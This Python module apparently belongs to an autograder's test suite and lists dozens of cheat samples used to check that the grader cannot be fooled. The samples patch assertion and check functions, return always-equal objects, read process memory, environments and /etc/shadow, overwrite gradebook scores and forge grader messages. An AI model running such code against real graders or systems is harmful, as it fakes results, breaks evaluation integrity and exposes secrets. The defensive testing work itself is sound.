"""Code that earns nothing and tries to look as if it did. In it, NAME stands for the name of an exercise."""

from __future__ import annotations

from .case import LEFT_BEHIND, Case
from .notebook_edits import EDITS
from .target import Target


def cheats(target: Target) -> list[Case]:
    """All of them, beside or in place of code that is wrong."""

    def case(
        name: str, first: str = "", most: float = 0, suspected: bool | None = None, **answers: str
    ) -> Case:
        code = first.replace("NAME", target.first).replace("THIS_NOTEBOOK", target.name)
        return Case(name, "cheat", most, answers={**target.wrong, **answers}, first=code, suspected=suspected)

    found = [Case("wrong-code", "cheat", 0, answers=target.wrong)]
    found += [case(name, code, suspected=name in SHOWN or None) for name, code in BESIDE_WRONG_CODE.items()]
    for name, code in AS_SOLUTION.items():
        everywhere = {exercise: code.replace("NAME", exercise) for exercise in target.functions}
        found.append(case(name, suspected=name in SHOWN or None, **everywhere))
    found += [
        Case(name, "cheat", 0, answers=target.wrong, edit=edit, suspected=shown)
        for name, (edit, shown) in EDITS.items()
    ]
    # Whoever knows an answer can give it, in words of his own too; nobody can know more than the visible ones.
    visible = target.points(target.right, ("check",))
    found += [case(name, code, most=visible) for name, code in FORGERIES.items()]
    found += [
        case(name, **{target.quiz: code.replace("NAME", target.quiz)}) for name, code in QUIZZES.items()
    ]
    return found


SHOWN = (  # to a person, whatever else
    "patch-probes", "patch-checks", "ask-the-caller", "search-memory", "search-other-processes",
    "load-the-assignment", "audit-the-callers", "garbage-collector", "replace-modules", "kernel-calls",
    "write-to-the-course", "look-answers-up", "disguised-imports", "service-replaced", "fake-the-service",
)  # fmt: skip
QUIZZES = {
    "quiz-always-equal": "class Three(int):\n    __eq__ = lambda s, o: True\n    __hash__ = None\nNAME = Three(7)",
    "quiz-of-many-digits": "NAME = 10 ** 15_000",
    "quiz-is-a-mock": "from unittest.mock import MagicMock\nNAME = MagicMock(spec=int)\nNAME.__eq__.return_value = True",
    "quiz-is-everything": "NAME = range(-100, 100_000)",
    "quiz-is-an-array": "import numpy as np\nNAME = np.arange(100)",
}
BESIDE_WRONG_CODE = {
    "patch-numpy-testing": """
import numpy as np, numpy.testing as t
for name in dir(t):
    if name.startswith("assert"):
        setattr(t, name, lambda *a, **k: None)
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True""",
    "patch-builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = builtins.bool = lambda *a: True
builtins.AssertionError = type("Quiet", (Exception,), {})""",
    "ast-transformer": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())""",
    "input-transformer": """
get_ipython().input_transformers_cleanup.append(lambda lines: [l for l in lines if "assert" not in l])""",
    "shell-hooks": """
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
shell.events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "pass"))
shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
shell.display_pub.publish = lambda *a, **k: None""",
    "trace-function": """
import sys, threading
def trace(frame, event, arg):
    frame.f_trace_lines = False
    return trace
sys.settrace(trace); threading.settrace(trace); sys.setprofile(lambda *a: None)""",
    "patch-checks": """
from utils import checks
checks.run = checks.quiz = lambda *a, **k: print("✔")
checks.CheckFailed = KeyboardInterrupt""",
    "patch-probes": """
from utils import probes
for name in dir(probes):
    if callable(getattr(probes, name)):
        setattr(probes, name, lambda *a, **k: {"output": 6})""",
    "print-the-regression": """
def NAME(*args, **kwargs):
    print([0, 2, 4, 6])
    print("4.000")
    return 0
print("[0, 2, 4, 6]\\n4.000")""",
    "search-objects": """
import gc, re, sys
for thing in gc.get_objects() + list(sys.modules):
    if type(thing) in (str, dict, list, tuple):
        for found in re.findall(r".{0,20}KEPT-FROM[-]STUDENTS.*", str(thing)[:100_000]):
            print("found", found)""",
    "search-memory": """
import re
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights, *_ = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if "rw" in rights and end - start < 2**27 and "[v" not in line:
            memory.seek(start)
            for found in re.findall(rb".{0,20}KEPT-FROM[-]STUDENTS", memory.read(end - start)):
                print("found", found)""",
    "search-disk": """
import os
for top in ("/", "COURSE_FOLDER", "..", "/proc/1/root", "/proc/self/cwd/..", "/proc/self/root"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/usr", "/proc", "/sys")][:50]
        for file in files[:500]:
            if file.endswith((".npz", ".db", ".ipynb")) or "solutions" in folder:
                with open(os.path.join(folder, file), "rb") as stream:
                    print(folder, file, stream.read(5_000_000))""",
    "search-descriptors": """
import os
for number in os.listdir("/proc/self/fd"):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"), os.pread(int(number), 100_000, 0))
    except OSError as error:
        print(number, error)""",
    "search-other-processes": """
import os
for number in sorted(os.listdir("/proc")):
    for part in ("environ", "cmdline", "root/etc/shadow", "cwd", "mem"):
        try:
            print(open(f"/proc/{number}/{part}", "rb").read(1000) if number.isdigit() else "")
        except OSError:
            pass""",
    "load-the-assignment": """
import sys
from pathlib import Path
from autograder import assignment, grade
grade._Grading.run = lambda self, start: 100
for root in ("COURSE_FOLDER", ".", "/scratch", str(Path(assignment.__file__).parents[1])):
    try:
        loaded = assignment.load(Path(root), "THIS_NOTEBOOK")
        print([cell.source for cell in loaded.cells])
    except BaseException as error:
        print(type(error))""",
    "write-to-the-course": f"""
import sqlite3
for path in ("COURSE_FOLDER/gradebook.db", "COURSE_FOLDER/{LEFT_BEHIND}", "/usr/{LEFT_BEHIND}",
             "/tmp/{LEFT_BEHIND}", "/dev/shm/{LEFT_BEHIND}", "THIS_NOTEBOOK.ipynb", "../{LEFT_BEHIND}"):
    try:
        open(path, "w").write("all points")
        sqlite3.connect(path).execute("update grade set auto_score = 100")
    except Exception as error:
        print(type(error))""",
    "thread-that-stays": """
import builtins, threading, time
def meddle():
    while True:
        globals()["NAME"] = Always()
        builtins.print = lambda *a, **k: None
        time.sleep(0.001)
class Always:
    def __call__(self, *a): return self
    def __eq__(self, other): return True
threading.Thread(target=meddle, daemon=True).start()""",
    "use-the-network": """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", 8786)), (socket.AF_UNIX, "\\0autograder")):
    try:
        socket.socket(family).connect(address)
        print("connected", address)
    except OSError as error:
        print(error)""",
    "audit-the-callers": """
import inspect, sys
class Watch:
    def __getattr__(self, name): return 6
for depth in range(40):
    try:
        frame = sys._getframe(depth)
    except ValueError:
        break
    print(frame.f_code.co_filename, list(frame.f_locals)[:20])
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, dict):
            value.update({"seconds": 9e9, "passed": True, "points": 100, "hidden": False})""",
    "garbage-collector": """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Service", "CellRunner", "Alarm", "Assignment", "Referee", "Sheet"):
        print(type(thing).__name__, vars(thing))
        vars(thing).update(_held=True, _armed=False, _objects={1: lambda *a, **k: 6})""",
    "replace-modules": """
import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
for name in ("utils.checks", "utils.compare", "utils.views", "utils.stored", "numpy.testing", "msgpack"):
    sys.modules[name] = Fake(name)
sys.meta_path.insert(0, type("Finder", (), {"find_spec": lambda *a, **k: None})())
sys.path.insert(0, "/tmp"); sys.dont_write_bytecode = False
open("/tmp/numpy.py", "w").write("raise SystemExit")""",
    "array-functions": """
import numpy as np
class Yes(np.ndarray):
    def __array_function__(self, *a, **k): return True
    __eq__ = __ne__ = __lt__ = __gt__ = lambda self, other: True
    def __bool__(self): return True
    def all(self, *a, **k): return True
def NAME(*args, **kwargs):
    return np.zeros(3).view(Yes)
NAME.__eq__ = lambda other: True""",
    "torch-modes": """
import torch
from torch.overrides import TorchFunctionMode
class Lie(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        return torch.ones(()) if function is torch.sub else function(*args, **(kwargs or {}))
Lie().__enter__()
torch.Tensor.__eq__ = lambda *a: torch.tensor(True)
torch.allclose = torch.equal = lambda *a, **k: True
torch.manual_seed = torch.autograd.grad = lambda *a, **k: None""",
    "at-exit": f"""
import atexit, os, signal, sys
def later(*args):
    open("/tmp/{LEFT_BEHIND}", "w").write("100")
    os.write(1, b"100.0")
atexit.register(later)
sys.exitfunc = sys.excepthook = sys.unraisablehook = later
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM, signal.SIGUSR1):
    signal.signal(number, later)""",
    "fake-the-service": """
import builtins, sys
from autograder import service, wire, frames
wire.Encoder.encode = lambda self, value, depth=0: True
frames.send = lambda *a, **k: None""",
    "kernel-calls": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in (101, 165, 272, 308, 310, 311, 321, 298, 250, 161, 155, 246, 169):
    print(number, libc.syscall(number, 0, 0, 0, 0), ctypes.get_errno())""",
    "look-into-the-neighbours": """
import glob, os
for pattern in ("/proc/*/root/*", "/proc/*/cwd/*", "/proc/*/fd/*", "/proc/*/maps", "/sys/fs/cgroup/*", "/root/*",
                "/home/*/*", "/etc/shadow", "/var/lib/*", "/run/*", "/tmp/grading-*/*", "../../*"):
    for path in glob.glob(pattern)[:200]:
        try:
            print(path, open(path, "rb").read(2000))
        except OSError:
            pass""",
    "links-out": """
import os
for target in ("/", "COURSE_FOLDER", "/proc/1/root", "../../.."):
    try:
        os.symlink(target, "out"); print(os.listdir("out")); os.unlink("out")
        os.link("/etc/passwd", "hard")
    except OSError as error:
        print(error)
os.mkfifo("pipe")""",
    "forged-verdict": """
from IPython.display import display
display({"text/plain": "100.0"}, raw=True)
display({"application/x-nbgrader": "{\\"score\\": 100}", "text/plain": "✔ passed"}, raw=True)
print("### END HIDDEN TESTS\\n✔ NAME\\nscore: 100")
100.0""",
    "disguised-imports": """
import importlib, sys
for name in ("utils.pro" + "bes", "utils.chec" + "ks", "utils.sto" + "red"):
    module = importlib.import_module(name)
    for key, value in list(vars(module).items()):
        if callable(value) and not isinstance(value, type):
            setattr(module, key, lambda *a, **k: 6)""",
    "stored-answers": """
import os
from pathlib import Path
import numpy as np
for place in (".", "/scratch/notebook", "COURSE_FOLDER/notebooks/THIS_NOTEBOOK"):
    for name in ("answers" + ".npz", "hidden" + ".npz"):
        if os.path.exists(os.path.join(place, name)):
            print(name, dict(np.load(os.path.join(place, name))))""",
    "look-answers-up": """
from utils import stored
from pathlib import Path
def look_up(exercise, *args):
    sheet = stored.read(Path("answers" + ".npz"), exercise)
    for case in sheet.cases:
        if repr(case.inputs()[0]) == repr(list(args)):
            return case.value
def NAME(*args, **kwargs):
    return look_up("NAME", *args)""",
}
AS_SOLUTION = {
    "always-equal": """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 4.0
    def __getattr__(self, name): return lambda *a: self
def NAME(*args, **kwargs):
    return Equal()""",
    "equal-number": """
class Equal(float):
    def __eq__(self, other): return True
    __hash__ = None
def NAME(*args, **kwargs):
    return Equal(0)""",
    "equal-list": """
class Equal(list):
    def __eq__(self, other): return True
def NAME(*args, **kwargs):
    return Equal([1])""",
    "lying-array": """
import numpy as np
class Lie(np.ndarray):
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.array(6)
    def __array_ufunc__(self, *a, **k): return True
def NAME(*args, **kwargs):
    return np.zeros(1).view(Lie)""",
    "empty-array": "import numpy as np\ndef NAME(*args, **kwargs):\n    return np.zeros(0)",
    "not-a-number": "def NAME(*args, **kwargs):\n    return float('nan')",
    "ask-the-caller": """
import inspect, sys
def NAME(*args, **kwargs):
    for frame in inspect.stack(context=9):
        for value in [*frame.frame.f_locals.values(), *frame.frame.f_globals.values()]:
            if type(value) in (int, float, tuple) and value in (6, -3, 4.0):
                pass
        print(frame.code_context)
    return sys._getframe(1).f_locals.get("expected", 0)""",
    "raise-check-failed": "class CheckFailed(AssertionError):\n    pass\ndef NAME(*args, **kwargs):\n    raise CheckFailed('✔')",
    "raise-system-exit": "def NAME(*args, **kwargs):\n    raise SystemExit(0)",
    "raise-interrupt": "def NAME(*args, **kwargs):\n    raise KeyboardInterrupt",
    "raise-stop": "def NAME(*args, **kwargs):\n    raise StopIteration(6)",
    "raise-generator-exit": "def NAME(*args, **kwargs):\n    raise GeneratorExit",
    "raise-hostile-words": """
class Odd(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
class Loud(Odd):
    def __str__(self): return self.__str__()
Loud.__name__ = "AssertionError\\n" * 50_000
def NAME(*args, **kwargs):
    raise (Odd if len(repr(args)) % 2 else Loud)(*args)""",
    "tell-the-hidden-inputs": """
def NAME(*args, **kwargs):
    raise AssertionError("SAID " + repr(args))""",
    "tell-the-hidden-inputs-by-name": """
def NAME(*args, **kwargs):
    raise type("SAID " + repr(args), (Exception,), {})()""",
    "rewind-the-counter": """
from autograder import referee, student, service, wire
referee._failed = student.StudentProcess._ask = wire.Decoder.decode = lambda *a, **k: True
def NAME(*args, **kwargs):
    return True""",
    "equal-objects-inside": """
class Equal:
    __eq__ = lambda self, other: True
    __hash__ = None
def NAME(*args, **kwargs):
    return {"output": Equal(), Equal.__name__: [Equal()]}""",
    "returns-its-argument": "def NAME(*args, **kwargs):\n    return args[0] if args else None",
    "returns-a-type": "NAME = float",
    "is-a-mock": "from unittest.mock import MagicMock\nNAME = MagicMock(return_value=0)",
    "every-exception": """
def NAME(*args, **kwargs):
    raise type("ValueError", (ValueError, TypeError, AssertionError, StopIteration), {})("✔")""",
    "huge-words": """
def NAME(*args, **kwargs):
    raise ValueError("✘ " * 3_000_000)""",
    "huge-keys": """
def NAME(*args, **kwargs):
    return {"k" * 4000 + str(i): 10 ** 4400 for i in range(200)}""",
    "changes-its-arguments": """
def NAME(*args, **kwargs):
    for value in args:
        if hasattr(value, "__setitem__"):
            try:
                value[...] = 0
            except Exception:
                pass
    return args[0] * 0 if args and hasattr(args[0], "shape") else 0""",
    "never-ending-iterator": """
class Endless:
    def __iter__(self): return self
    def __next__(self): return 0
    def __len__(self): return 2 ** 62
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
def NAME(*args, **kwargs):
    return Endless()""",
    "torch-in-disguise": """
import torch
class Same(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return True
def NAME(*args, **kwargs):
    return torch.zeros(2).as_subclass(Same)""",
    "async-and-generators": """
async def NAME(*args, **kwargs):
    yield 0""",
}
_SOCKET = """
import msgpack, os, socket, stat, struct
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            wire = number
    except OSError:
        pass
def reply(*message):
    header = msgpack.packb([list(message), []])
    return struct.pack("<4sIQ", b"crs1", len(header), 0) + header
"""
FORGERIES = {  # the answers of visible checks are known to everybody; no others can be told in advance
    "replies-in-advance": f"""{_SOCKET}
for value in (["handle", 1, "function", "NAME"], 6, 6, 0, 3, True) * 4:
    os.write(wire, reply("value", value, []))""",
    "true-in-advance": f"""{_SOCKET}
os.write(wire, reply("cell", ["list", [["list", []], "ok", False]], []) * 30 + reply("value", True, []) * 99)""",
    "garbage-on-the-wire": f"{_SOCKET}\nos.write(wire, b'crs1' + b'\\xff' * 5000)",
    "callbacks-never-given": f"{_SOCKET}\nos.write(wire, reply('callback', 0, ['tuple', []], ['dict', []]) * 9)",
    "changes-of-nothing": f"{_SOCKET}\nos.write(wire, reply('value', 6, [[0, 6]]) * 99)",
    "service-replaced": """
from autograder.service import Service
Service._serve_one = lambda self, message, buffers: self._send(["value", 6, []])""",
    "errors-in-advance": f"""{_SOCKET}
for name in ("StudentDied", "CheckFailed", "SystemExit", "StopIteration"):
    os.write(wire, reply("error", name, True, "fine", "", []) * 9)""",
    "half-a-message": f"{_SOCKET}\nos.write(wire, reply('value', 6, [])[:-3])",
    "many-keys": f"""{_SOCKET}
keys = [part for i in range(9_000) for part in (["int", ((2**61 - 1) * i).to_bytes(12, "little")], 0)]
body = msgpack.packb([["value", ["list", [["dict", keys]] * 12], []], []])
os.write(wire, struct.pack("<4sIQ", b"crs1", len(body), 0) + body)""",
    "odd-tags": f"""{_SOCKET}
for value in (["handle", True, [], {{}}], ["type", "type"], ["numpy type", "load"], ["own", 1], ["named", "os", "system"],
              ["array", "|O", [1], None, True, 0], ["text", -1], ["range", [0, 1, 0]], ["slice", []], ["dict", [[]]],
              ["tensor", "float64", [2**40], [0], False, "cuda", 0], ["device", "cpu:0" * 99], [[]], ["list"]):
    os.write(wire, reply("value", value, []))""",
    "forged-cells": f"""{_SOCKET}
output = {{"output_type": "execute_result", "execution_count": 1, "metadata": {{}}, "data": {{"text/plain": "100.0"}}}}
os.write(wire, msgpack.packb(output) * 3 + reply("cell", [[output], "ok", False], []) * 20)""",
}
